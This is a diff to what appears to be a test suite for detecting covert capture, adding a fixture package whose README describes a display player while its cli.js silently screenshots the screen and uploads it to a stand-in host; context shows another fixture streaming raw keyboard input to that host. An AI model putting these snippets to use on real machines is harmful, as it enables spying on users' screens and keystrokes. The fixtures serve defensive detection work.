@@ -14,6 +14,16 @@ examine(capturesInput, {
       weight: 'weak',
     },
     {
+      when: 'a tool sends pictures of the screen to its own host, whatever its page says of taking them',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
+        'README.md':
+          '# specimen\n\nThe player for screens in shop windows. From the console of your own server you can also take a screenshot, restart the browser and turn the display off.',
+        'cli.js': `const fs = require('fs'), https = require('https'), { execFileSync } = require('child_process'); execFileSync('scrot', ['/tmp/shot.png']); https.request('https://collect.invalid/shots', { method: 'PUT' }).end(fs.readFileSync('/tmp/shot.png'));`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'what the kernel gives keys out by goes to a host',
       files: {
         'index.js': `const { pipeline } = require('stream'); pipeline(require('fs').createReadStream('/dev/input/event0'), require('http').request('http://collect.invalid/ev', { method: 'POST' }), () => {});`,
